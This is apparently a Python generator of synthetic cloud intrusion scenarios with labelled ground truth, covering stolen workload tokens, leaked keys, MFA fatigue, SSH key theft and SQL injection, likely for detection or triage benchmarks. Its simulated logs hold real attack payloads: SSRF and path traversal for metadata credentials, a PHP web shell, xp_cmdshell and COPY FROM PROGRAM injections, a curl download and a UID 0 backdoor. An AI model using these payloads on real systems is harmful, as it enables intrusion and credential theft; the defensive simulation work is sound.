"""Incidents at the doors that people and programs do not share: tokens of other identity providers, roles of pods, tasks and
functions, keys of the shell, databases behind a form, and clocks that disagree."""
from alike import AGENTS, by_token, pipeline, pod_roles, task_roles
from attacks import FOREIGN, THIEVES, Hand, console, hiding_place, key_at_work, moment, off_host, web_base
from calm import WORK, cli_day, console_day, lambdas, ssh_noise
from world import BROWSERS, CLIS, CLOUD, DAY, HOMES, HOSTING, HOUR, RUNNERS, SDKS, Person, Role, Session, Truth

STRANGE = tuple(a for a in THIEVES if 'kali' not in a and 'Truffle' not in a)


def thief(w, truth, who, t, agents=STRANGE, ip=None):
    h = Hand(w, truth, who, ip or w.address(HOSTING), w.rng.choice(agents))
    h.t = t
    return h


# ---- identities of workloads
def token_stolen(w):
    """The token that a pipeline's provider signs is exchanged by somebody else."""
    r, truth = w.rng, Truth('instance_credential_theft', slack=120)
    truth.also = {'undetermined'}
    role = pipeline(w)
    t, agent = moment(w), r.choice(STRANGE)
    ip = w.address(HOSTING)
    s = by_token(w, t, role, ip, agent, 'GitHubActions', bad=True)
    truth.entry = t
    h = Hand(w, truth, s, ip, agent)
    h.t = t + r.randrange(5, 200)
    h.look(r.randrange(7, 12), .4)
    h.rob()
    return truth


def pipeline_session(w):
    """A dependency of the build sends the job's environment out: one session, the runner and a stranger."""
    r, truth = w.rng, Truth('instance_credential_theft')
    truth.also = {'undetermined'}
    role = pipeline(w)
    t, runner = moment(w), w.v4(RUNNERS)
    s = by_token(w, t, role, runner, AGENTS[0], 'GitHubActions')
    for i in range(r.randrange(5, 12)):
        w.call(t + 9 + i * 40, s, runner, AGENTS[0], *r.choice([('ecr', 'GetAuthorizationToken'), ('ecs', 'UpdateService'), ('ecr', 'PutImage')]))
    h = thief(w, truth, s, t + r.randrange(100, 1500))
    h.look(r.randrange(5, 11), .4)
    h.rob()
    return truth


def pipeline_key(w):
    """The same with a long-term key: used from a runner here and a runner there, then from somewhere else."""
    r, truth = w.rng, Truth('leaked_access_key')
    p = Person(w, r.choice(['ci-deployer', 'circleci', 'jenkins-ecr']), False)
    agent = r.choice(SDKS)
    for day in range(w.days):
        for _ in range(4):
            t, ip = w.work_time(day), w.v4(RUNNERS)
            for i in range(8):
                w.call(t + i * 20, p, ip, agent, *r.choice([('ecr', 'GetAuthorizationToken'), ('ecr', 'PutImage'), ('ecs', 'UpdateService'), ('ecs', 'RegisterTaskDefinition')]))
    h = thief(w, truth, p, moment(w), THIEVES)
    h.look(r.randrange(7, 12), .5)
    h.persist()
    h.rob()
    truth.cuts = ['cloudtrail']
    return truth


def pod_stolen(w):
    """The keys of a pod's role, used outside the cluster; half the time after a request that brought them out."""
    r, truth = w.rng, Truth('instance_credential_theft')
    pods = pod_roles(w)
    t = moment(w)
    s = r.choice([s for s in pods if s.t <= t] or pods)
    t = max(t, s.t + 300)
    return workload_stolen(w, truth, s, t, '/static/..%2f..%2f..%2f..%2fproc/self/environ')


def task_stolen(w):
    """The keys of a container's role: they lie at 169.254.170.2, an address that a server should not be made to ask."""
    r, truth = w.rng, Truth('instance_credential_theft')
    tasks = task_roles(w)
    t = moment(w)
    s = r.choice([s for s in tasks if s.t <= t] or tasks)
    t = max(t, s.t + 300)
    return workload_stolen(w, truth, s, t, f'/preview?src=http%3A%2F%2F169.254.170.2%2Fv2%2Fcredentials%2F{w.uuid()}')


def function_exploited(w):
    """A function that reads what it is told to read tells its own environment."""
    r, truth = w.rng, Truth('instance_credential_theft')
    role = lambdas(w)
    t = moment(w)
    s = w.assume(t - 900, {'type': 'AWSService', 'invokedBy': 'lambda.amazonaws.com'}, 'lambda.amazonaws.com', 'lambda.amazonaws.com', role, 'thumbnailer')
    home = w.v4(CLOUD)
    for i in range(8):
        w.read_object(t - 800 + i * 60, s, home, AGENTS[2], w.buckets[1], f'u/{w.hex(6)}.png', 30000)
    return workload_stolen(w, truth, s, t, '/convert?img=file:///proc/self/environ')


def workload_stolen(w, truth, s, t, request):
    r = w.rng
    ip = None
    if r.random() < .5:
        web_base(w, r.random() < .5)
        ip = w.v4(HOSTING)
        w.visit(t - r.randrange(40, 900), ip, 'GET', request, 200, r.randrange(1200, 3000), r.choice(['curl/8.1', 'python-requests/2.31.0', 'Mozilla/5.0']), bad=True)
        truth.klass, truth.entry, truth.cuts = 'web_exploitation', w.web[-1][0], ['web']
        truth.ips.add(ip)
        ip = ip if r.random() < .4 else None
    h = thief(w, truth, s, t, ip=ip)
    h.look(r.randrange(5, 11), .4)
    h.rob()
    return truth


def chain_stolen(w):
    """A role session in two hands; the strange one goes on into other accounts' roles with it."""
    r, truth = w.rng, Truth('undetermined')
    truth.also = {'valid_credentials_known_origin', 'instance_credential_theft'}
    p, role = r.choice(w.staff), Role(w, r.choice(['deploy-hub', 'platform', 'ops']))
    t = moment(w)
    s = w.assume(t, p, p.place, p.agent, role, p.name)
    for i in range(20):
        w.call(t + 10 + i * 90, s, p.place, p.agent, *r.choice(WORK))
    h = thief(w, truth, s, t + r.randrange(300, 1500))
    h.look(r.randrange(5, 9), .3)
    for _ in range(2):
        far = Role(w, 'OrganizationAccountAccessRole', account=''.join(r.choice('123456789') for _ in range(12)))
        far_s = w.assume(h.t, s, h.ip, h.agent, far, 'x' + w.hex(4), bad=True)
        two = Hand(w, truth, far_s, h.ip, h.agent)
        two.t = h.t + 20
        two.look(5, .2)
        two.rob()
        h.t = two.t + 30
    truth.may |= truth.ips | truth.principals | truth.keys
    truth.principals, truth.ips, truth.keys, truth.entry = set(), set(), set(), None
    return truth


# ---- people
def key_published(w):
    """Pushed to a public repository: bots try it from here and there within minutes, AWS reacts, one of them goes on."""
    r, truth = w.rng, Truth('leaked_access_key')
    p = r.choice(w.staff)
    for day in range(w.days):
        cli_day(w, p, day)
        cli_day(w, p, day)
    t = truth.entry = moment(w)
    for i in range(r.randrange(2, 5)):
        bot = thief(w, truth, p, t + i * r.randrange(5, 90), ('TruffleHog', 'Boto3/1.26.165 Python/3.8.10 Linux/5.4.0 Botocore/1.29.165', 'aws-sdk-go/1.44.1 (go1.18; linux; amd64)', 'python-requests/2.31.0'))
        bot.do('sts', 'GetCallerIdentity')
        bot.do('ses', 'GetAccount', err=r.random() < .5 or None)
        truth.may.add(bot.ip)
        truth.ips.discard(bot.ip)
    w.call(t + r.randrange(60, 400), {'type': 'AWSService', 'invokedBy': 'iam.amazonaws.com'}, 'AWS Internal', 'AWS Internal', 'iam', 'AttachUserPolicy',
           {'userName': p.name, 'policyArn': 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3'})
    h = thief(w, truth, p, t + r.randrange(500, 4000), THIEVES)
    h.look(9, .5)
    h.rob()
    truth.entry, truth.slack = t, 5000
    truth.cuts = ['cloudtrail']
    return truth


def console_tired(w):
    """A second factor pushed until somebody gives in: failures, then a sign-in with MFA at a place the user never was."""
    r, truth = w.rng, Truth('console_password')
    truth.also = {'undetermined'}
    p = r.choice(w.staff)
    p.mfa = True
    for day in range(w.days):
        console_day(w, p, day, mfa=True)
    ip, t = w.address(HOSTING), moment(w)
    n = r.randrange(5, 30)
    for i in range(n):
        w.login(t - (n - i) * r.randrange(15, 60), p, ip, BROWSERS[2], ok=False, mfa=True, bad=True)
    h = console(w, truth, p, ip, t, mfa=True)
    h.persist()
    h.blind()
    truth.entry, truth.slack = t, 3600
    return truth


def insider_away(w):
    """An employee with a second factor, at home for a change, takes data along."""
    r, truth = w.rng, Truth('valid_credentials_known_origin')
    truth.also = {'undetermined'}
    p = r.choice(w.staff)
    p.mfa = True
    home = w.address(HOMES)
    for day in range(w.days):
        console_day(w, p, day, mfa=True)
        if r.random() < .5:
            console_day(w, p, day, home, mfa=True)
    t = w.work_time(w.days - 1)
    w.login(t, p, home, p.browser, mfa=True, bad=True)
    h = Hand(w, truth, Session(w, t, person=p, mfa=True, console=True), home, p.browser)
    h.t = t + 60
    h.read(r.randrange(80, 300))
    h.do('rds', 'ModifyDBSnapshotAttribute', {'dBSnapshotIdentifier': 'nightly', 'attributeName': 'restore', 'valuesToAdd': [FOREIGN]}, {})
    if r.random() < .5:
        h.do('cloudtrail', 'StopLogging', {'name': 'main'})
    truth.may |= {p.key, p.arn, home} | truth.keys
    truth.principals, truth.keys, truth.ips, truth.entry = set(), set(), set(), None
    return truth


# ---- hosts
def ssh_key_stolen(w):
    """A private key from somebody's laptop: accepted at once, from where its owner never was, and then a way back in."""
    r, truth = w.rng, Truth('undetermined')
    if not w.ssh:
        ssh_noise(w)
    m, ip, t, owner = r.choice(w.machines), w.v4(HOSTING), moment(w), r.choice(w.staff).name.replace('.', '')
    key, port = w.letters(43), r.randrange(30000, 60000)
    for day in range(w.days):
        u = w.work_time(day)
        w.auth(u, m.host, 'sshd[812]', f'Accepted publickey for {owner} from {w.office} port {port - 9} ssh2: ED25519 SHA256:{key}')
    w.auth(t, m.host, 'sshd[977]', f'Accepted publickey for {owner} from {ip} port {port} ssh2: ED25519 SHA256:{key}', bad=True)
    w.auth(t + 1, m.host, 'sshd[977]', f'pam_unix(sshd:session): session opened for user {owner}(uid=1001) by (uid=0)')
    w.auth(t + 40, m.host, 'sudo', f'  {owner} : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x http://{ip}/x', bad=True)
    w.auth(t + 90, m.host, 'useradd[5120]', 'new user: name=systemd-net, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/3', bad=True)
    truth.may.add(ip)
    if w.days == 1:
        truth.also = {'no_incident'}  # nothing shows where the owner usually comes from
    if r.random() < .5:
        truth.klass = 'instance_credential_theft'
        truth.also = {'undetermined'}
        off_host(w, truth, m, ip if r.random() < .5 else w.address(HOSTING), r.choice(STRANGE), t + r.randrange(120, 3000))
    truth.cuts = ['ssh']
    return truth


def web_sql(w):
    """SQL injection that ends in code: a file written where the server runs it, or a program started by the database."""
    r, truth = w.rng, Truth('web_exploitation')
    m = web_base(w)
    ip, t = w.v4(HOSTING), moment(w)
    agent = r.choice(['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0', 'python-requests/2.31.0'])
    truth.entry = t
    for i in range(r.randrange(6, 60)):
        w.visit(t + i * 2, ip, 'GET', f'/products?id=17%20UNION%20ALL%20SELECT%20{",".join(["NULL"] * (i % 9 + 1))}--%20', r.choice([200, 500, 500]), r.randrange(9000, 60000), agent, bad=True)
    u, way = t + 200, r.randrange(3)
    truth.slack = 120
    if way == 0:
        name = f'/uploads/tmpu{w.hex(4)}.php'
        w.visit(u, ip, 'GET', f"/products?id=17%20UNION%20SELECT%201,'%3C?php%20system($_GET[c]);?%3E'%20INTO%20OUTFILE%20'/var/www{name}'--", 200, 61234, agent, bad=True)
        for i, c in enumerate(['id', 'cat%20/etc/passwd', 'env']):
            w.visit(u + 10 + i * 7, ip, 'GET', f'{name}?c={c}', 200, r.randrange(30, 2000), agent, bad=True)
    elif way == 1:
        w.visit(u, ip, 'GET', "/products?id=17';EXEC%20xp_cmdshell%20'powershell%20-enc%20SQBFAFgA';--", r.choice([200, 500]), 70001, agent, bad=True)
        w.both_ways(u + 8, m.private, ip, r.randrange(32768, 60000), r.choice([443, 8443, 4444]), 300, 60000, 40000, eni=m.eni)
    else:
        off_host(w, truth, m, ip, r.choice(STRANGE), u + r.randrange(60, 900))
        w.visit(u, ip, 'GET', "/products?id=17;COPY%20t%20FROM%20PROGRAM%20'curl%20http://169.254.169.254/latest/meta-data/iam/security-credentials/" + m.role.name + "'", 200, 70002, agent, bad=True)
        truth.entry, truth.slack = t, 300
    truth.ips.add(ip)
    truth.cuts = ['web']
    return truth


def web_dumped(w):
    """SQL injection that only reads: the answers are larger than they should be, and that is all there is to see."""
    r, truth = w.rng, Truth('undetermined')
    truth.also = {'web_exploitation'}
    web_base(w)
    ip, t = w.v4(HOSTING), moment(w)
    for i in range(r.randrange(20, 90)):
        w.visit(t + i * 2, ip, 'GET', f'/products?id=17%20UNION%20SELECT%20{i},table_name%20FROM%20information_schema.tables--', 200, r.randrange(40000, 90000), 'sqlmap/1.7.2#stable (https://sqlmap.org)', bad=True)
    truth.may.add(ip)
    return truth


def clocks_apart(w):
    """An exploit in a log whose host's clock is minutes off: what followed seems to have come first."""
    import attacks
    r = w.rng
    kind = r.choice([attacks.web_ssrf, attacks.web_files, attacks.web_command, attacks.ssh_guessed])
    truth = kind(w)
    w.web_skew = w.ssh_skew = r.choice([-1, 1]) * r.randrange(120, 600)
    truth.slack += abs(w.web_skew) + 60
    truth.cuts = []
    return truth


KINDS = {f.__name__: f for f in (
    token_stolen, pipeline_session, pipeline_key, pod_stolen, task_stolen, function_exploited, chain_stolen, key_published, console_tired, insider_away,
    ssh_key_stolen, web_sql, web_dumped, clocks_apart)}
